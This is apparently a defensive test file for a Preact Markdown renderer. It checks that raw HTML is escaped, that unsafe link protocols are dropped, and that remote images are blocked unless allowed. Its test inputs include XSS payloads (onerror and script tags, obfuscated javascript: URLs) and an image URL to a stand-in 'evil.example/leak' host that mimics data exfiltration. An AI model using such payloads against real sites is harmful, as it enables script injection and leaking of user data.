import { render } from '@testing-library/preact';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown.js';

const html = (source: string, allowImages = false) => render(<Markdown source={source} allowImages={allowImages} />).container;

describe('Markdown', () => {
  it('renders paragraphs, emphasis, lists, code and tables as elements', () => {
    const c = html('Hello *world* **bold**\n\n- one\n- two\n\n1. first\n\n```js\nlet x = "<b>";\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(c.querySelector('p em')?.textContent).toBe('world');
    expect(c.querySelector('p strong')?.textContent).toBe('bold');
    expect([...c.querySelectorAll('ul > li')].map((li) => li.textContent)).toEqual(['one', 'two']);
    expect(c.querySelector('ol > li')?.textContent).toBe('first');
    expect(c.querySelector('pre code')?.textContent).toBe('let x = "<b>";');
    expect(c.querySelector('pre code')?.getAttribute('data-lang')).toBe('js');
    expect(c.querySelectorAll('table th')).toHaveLength(2);
    expect(c.querySelector('table td')?.textContent).toBe('1');
  });

  it('keeps tight list items free of paragraphs', () => {
    expect(html('- a\n- b').querySelector('li p')).toBeNull();
  });

  it('renders raw HTML as visible text, never as markup', () => {
    const c = html('<img src=x onerror=alert(1)> <script>alert(1)</script> <a href="javascript:x">y</a>');
    expect(c.querySelector('img, script, a')).toBeNull();
    expect(c.textContent).toContain('<script>alert(1)</script>');
  });

  it('makes safe links open in a new tab without an opener', () => {
    const a = html('[docs](https://example.com/docs)').querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://example.com/docs');
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('drops links to other protocols and relative links, keeping their text', () => {
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'java\tscript:alert(1)',
      'data:text/html,x',
      'vbscript:x',
      '/relative',
      '//evil.com',
    ]) {
      const c = html(`[click](${href})`);
      expect(c.querySelector('a'), href).toBeNull();
      expect(c.textContent).toContain('click');
    }
  });

  it('does not load images unless allowed, showing a link with the alt text', () => {
    const c = html('![secret](https://evil.example/leak?d=123)');
    expect(c.querySelector('img')).toBeNull();
    expect(c.querySelector('a')?.textContent).toBe('Image: secret');
  });

  it('loads https images when allowed, without a referrer', () => {
    const img = html('![cat](https://example.com/cat.png)', true).querySelector('img')!;
    expect(img.getAttribute('src')).toBe('https://example.com/cat.png');
    expect(img.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(html('![x](http://example.com/a.png)', true).querySelector('img')).toBeNull();
    expect(html('![x](javascript:alert(1))', true).querySelector('img, a')).toBeNull();
  });
});
